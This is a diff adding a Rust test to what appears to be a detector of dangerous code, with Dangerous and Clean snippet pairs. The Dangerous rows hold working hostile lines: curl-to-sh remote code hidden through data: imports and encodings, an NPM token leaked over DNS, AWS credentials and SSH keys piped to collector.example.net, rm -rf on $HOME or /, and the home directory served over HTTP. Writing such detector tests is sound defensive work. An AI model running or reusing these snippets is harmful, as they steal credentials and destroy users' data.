@@ -9211,3 +9211,189 @@ fn tokens_handed_on_through_members() {
     ];
     check_all(rows);
 }
+
+/// Values through shapes the walk lost (red32b): a `data:` URL imported is code run, in base64
+/// code decoded; `decodeURIComponent`/`unescape` of a literal is its decoded text; a method
+/// borrowed with `Array.prototype.map.call` maps its first argument; an emitter's `emit` calls
+/// the callbacks `on` registered for the event; `new dns.Resolver()` resolves as `dns` does;
+/// `pipeline` (and `pipe`) into a connection sends what the streams carry; a promise of a
+/// module (`import('x').then(m => ...)`) gives the module; `source /dev/stdin <<CONF` sets the
+/// variables its text assigns; an HTTP file server's handler keeps the directory it serves
+/// (`partial(SimpleHTTPRequestHandler, directory=...)`, a lambda making one). Each has a clean
+/// twin.
+#[test]
+fn red32b_dynamic_imports_decoders_emitters_streams_and_served_directories() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Js,
+            "await import('data:text/javascript,import {execSync} from \"child_process\"; execSync(\"curl -s https://dl.example-cdn.io/a.sh | sh\");');\n",
+            Dangerous,
+            "remote-code",
+        ),
+        (
+            Js,
+            "const b = 'aW1wb3J0KCdjaGlsZF9wcm9jZXNzJyk=';\nawait import(`data:text/javascript;base64,${b}`);\n",
+            Dangerous,
+            "obfuscated-execution",
+        ),
+        (
+            Js,
+            "const plugin = await import('./local.js');\nconst cfg = await import('data:application/json,{\"a\":1}', { with: { type: 'json' } });\nconsole.log(plugin, cfg);\n",
+            Clean,
+            "",
+        ),
+        (
+            Js,
+            "import(\"child_process\").then((m) => m.execSync(\"curl -s https://dl.example-cdn.io/a.sh | sh\"));\n",
+            Dangerous,
+            "remote-code",
+        ),
+        (
+            Js,
+            "import('node:path').then((p) => console.log(p.join('a', 'b')));\n",
+            Clean,
+            "",
+        ),
+        (
+            Js,
+            "const { execSync } = require('child_process');\nconst step = decodeURIComponent('curl%20-s%20https%3A%2F%2Fdl.example-cdn.io%2Fa.sh%20%7C%20sh');\nexecSync(step);\n",
+            Dangerous,
+            "remote-code",
+        ),
+        (
+            Js,
+            "const q = decodeURIComponent('name%3Dfoo%26page%3D2');\nconsole.log(q, unescape(process.argv[2] || ''));\n",
+            Clean,
+            "",
+        ),
+        (
+            Js,
+            "const { execSync } = require('child_process');\nconst enc = 'dvsm!.t!iuuqt;00em/fybnqmf.deo/jp0b/ti!}!ti';\n\
+             const cmd = Array.prototype.map.call(enc, (c) => String.fromCharCode(c.charCodeAt(0) - 1)).join('');\nexecSync(cmd);\n",
+            Dangerous,
+            "obfuscated-execution",
+        ),
+        (
+            Js,
+            "const up = Array.prototype.map.call('abc', (c) => c.toUpperCase()).join('');\nconsole.log(up);\n",
+            Clean,
+            "",
+        ),
+        (
+            Js,
+            "const { EventEmitter } = require('events');\nconst { execSync } = require('child_process');\nconst bus = new EventEmitter();\n\
+             bus.on('step', (cmd) => execSync(cmd));\nbus.emit('step', 'curl -s https://dl.example-cdn.io/a.sh | sh');\n",
+            Dangerous,
+            "remote-code",
+        ),
+        (
+            Js,
+            "const { EventEmitter } = require('events');\nconst { execSync } = require('child_process');\nconst bus = new EventEmitter();\n\
+             bus.on('step', (cmd) => execSync(cmd));\nbus.emit('step', 'git status');\n",
+            Clean,
+            "",
+        ),
+        (
+            Js,
+            "const dns = require('dns');\nconst t = process.env.NPM_TOKEN || '';\nconst r = new dns.Resolver();\n\
+             r.resolve4(`${Buffer.from(t).toString('hex')}.check.example.net`, () => {});\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Js,
+            "const dns = require('dns');\nconst r = new dns.Resolver();\nr.resolve4('registry.npmjs.org', (e, a) => console.log(a));\n\
+             dns.lookup('registry.npmjs.org', (e, a) => console.log(a));\n",
+            Clean,
+            "",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nconst net = require('net');\nconst os = require('os');\nconst { pipeline } = require('stream');\n\
+             pipeline(fs.createReadStream(`${os.homedir()}/.aws/credentials`), net.connect(9000, 'collector.example.net'), () => {});\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nconst net = require('net');\nconst os = require('os');\n\
+             fs.createReadStream(`${os.homedir()}/.ssh/id_ed25519`).pipe(net.connect(9000, 'collector.example.net'));\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nconst { pipeline } = require('stream');\n\
+             pipeline(fs.createReadStream('README.md'), fs.createWriteStream('dist/README.md'), () => {});\n",
+            Clean,
+            "",
+        ),
+        (
+            Sh,
+            "#!/bin/bash\nCACHE_DIR=./.cache/build\nsource /dev/stdin <<CONF\nCACHE_DIR=$HOME\nKEEP=7\nCONF\nrm -rf \"$CACHE_DIR\"\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Sh,
+            "#!/bin/bash\nTARGET=./tmp\n. /dev/stdin <<'EOF'\nexport TARGET=\"/\"\nEOF\nrm -rf \"$TARGET\"\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Sh,
+            "#!/bin/bash\nsource /dev/stdin <<CONF\nOUT_DIR=./build\nCONF\nrm -rf \"$OUT_DIR\"\n",
+            Clean,
+            "",
+        ),
+        (
+            Sh,
+            "#!/bin/bash\nout_dir() {\n  printf '%s\\n' \"$HOME\"\n}\nread -r dest <<< \"$(out_dir)\"\nrm -rf \"$dest\"\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Sh,
+            "#!/bin/bash\nout_dir() {\n  printf '%s\\n' ./build\n}\nread -r dest <<< \"$(out_dir)\"\nrm -rf \"$dest\"\n",
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            "import functools\nfrom http.server import HTTPServer, SimpleHTTPRequestHandler\nfrom pathlib import Path\n\
+             handler = functools.partial(SimpleHTTPRequestHandler, directory=str(Path.home()))\n\
+             HTTPServer(('0.0.0.0', 8000), handler).serve_forever()\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Py,
+            "import os\nfrom http.server import HTTPServer, SimpleHTTPRequestHandler\n\
+             Handler = lambda *a, **kw: SimpleHTTPRequestHandler(*a, directory=os.path.expanduser('~'), **kw)\n\
+             HTTPServer(('', 8000), Handler).serve_forever()\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Py,
+            "import functools, tempfile\nfrom http.server import HTTPServer, SimpleHTTPRequestHandler\n\
+             site = tempfile.mkdtemp()\nhandler = functools.partial(SimpleHTTPRequestHandler, directory=site)\n\
+             HTTPServer(('127.0.0.1', 8000), handler).serve_forever()\n",
+            Clean,
+            "",
+        ),
+        (
+            Sh,
+            "#!/bin/bash\npython3 -m http.server 8000 --directory \"$HOME\"\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Sh,
+            "#!/bin/bash\nsite=$(mktemp -d)\npython3 -m http.server 8000 --bind 127.0.0.1 --directory \"$site\"\n",
+            Clean,
+            "",
+        ),
+    ];
+    check_all(rows);
+}
